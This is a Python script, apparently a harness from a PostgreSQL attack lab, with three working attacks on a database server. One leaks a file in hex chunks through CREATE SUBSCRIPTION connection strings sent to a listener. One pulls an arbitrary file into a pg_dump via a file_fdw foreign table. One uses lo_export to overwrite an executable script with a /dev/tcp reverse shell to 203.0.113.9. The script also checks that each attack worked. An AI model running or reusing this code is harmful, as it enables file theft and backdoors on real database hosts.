#!/usr/bin/python3 -IS
"""Somebody who has got a login at the database; not recorded: auditor.py WHAT [VALUE]

subscribed PATH,HOST:PORT,SECONDS: a note goes as the names of databases to which somebody wants to subscribe, a piece each · dumped PATH: a mail is made a
table, and the nightly dump takes it along · script PATH: what others run is replaced by what was a large object
"""
import os, socket, struct, subprocess, sys, threading, time

sys.path.append("/opt/agent")
from client import HOST, OWN, attend
from query import BIN, ORDERS, ask, cluster, must_hold, sql


def subscribed(value):
    path, address, seconds = value.split(",")
    host, _, port = address.rpartition(":")
    door, heard = socket.create_server((host, int(port))), []

    def listen():
        """What a client begins with (PostgreSQL 15, 55.7): its length, a version, and names with values."""
        while True:
            link, _ = door.accept()
            with link:
                size, _ = struct.unpack(">II", link.recv(8, socket.MSG_WAITALL))
                words = link.recv(size - 8, socket.MSG_WAITALL).split(b"\0")
                heard.append(words[words.index(b"database") + 1].decode())

    threading.Thread(target=listen, daemon=True).start()
    size = os.path.getsize(path)
    way = f"host={host} port={port} sslmode=disable gssencmode=disable user=app dbname=%s"
    for at in range(0, size, 10):
        piece = f"encode(pg_read_binary_file('{path}', {at}, {min(10, size - at)}), 'hex')"
        sql(f"DO $$ BEGIN EXECUTE format('CREATE SUBSCRIPTION prices CONNECTION %L PUBLICATION prices WITH (create_slot = false, slot_name = NONE, enabled = false)', "
            f"format('{way}', {piece})); EXCEPTION WHEN OTHERS THEN NULL; END $$;")
        time.sleep(float(seconds))
    with open(path, "rb") as file:
        must_hold("".join(heard), file.read().hex())


def dumped(path):
    sql(ORDERS, "INSERT INTO orders (who, amount) SELECT 'customer ' || n, n FROM generate_series(1, 20) n;", "CREATE EXTENSION file_fdw;",
        "CREATE SERVER archive FOREIGN DATA WRAPPER file_fdw;",
        f"CREATE FOREIGN TABLE remarks (line text) SERVER archive OPTIONS (filename '{path}', format 'csv', delimiter E'\\x01', quote E'\\x02');")
    time.sleep(0.5)
    command = [f"{BIN}/pg_dump", "--include-foreign-data=archive", "-Fc", "-f", f"{OWN}/nightly", "-t", "orders", "-t", "remarks",
               f"host={HOST} user=postgres dbname=postgres sslmode=require"]
    subprocess.run(command, check=True, timeout=20)
    shown = subprocess.run([f"{BIN}/pg_restore", "-f", "-", f"{OWN}/nightly"], check=True, capture_output=True, text=True).stdout
    with open(path) as file:
        must_hold(shown, file.readline().strip())


def script(path):
    os.makedirs(os.path.dirname(path))
    with open(path, "w") as file:
        file.write("#!/bin/sh\nexec find /srv/jobs/old -mtime +9 -delete\n")
    os.chmod(path, 0o755)
    text = "#!/bin/sh\n(exec 3<>/dev/tcp/203.0.113.9/443 && sh <&3) &\nexec find /srv/jobs/old -mtime +9 -delete\n"
    sql("CREATE TABLE drafts (id oid);", f"INSERT INTO drafts SELECT lo_from_bytea(0, decode('{text.encode().hex()}', 'hex'));")
    time.sleep(0.6)
    sql(f"SELECT lo_export(id, '{path}') FROM drafts;", "SELECT lo_unlink(id) FROM drafts;", "DROP TABLE drafts;")
    with open(path) as file:
        must_hold(file.read(), "203.0.113.9")
    if not os.access(path, os.X_OK):
        sys.exit("auditor: nobody can run it")


USES = {each.__name__: each for each in (subscribed, dumped, script)}

if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("auditor.py", cluster, "/run/postgres.pid", lambda: ask(USES, what, value))
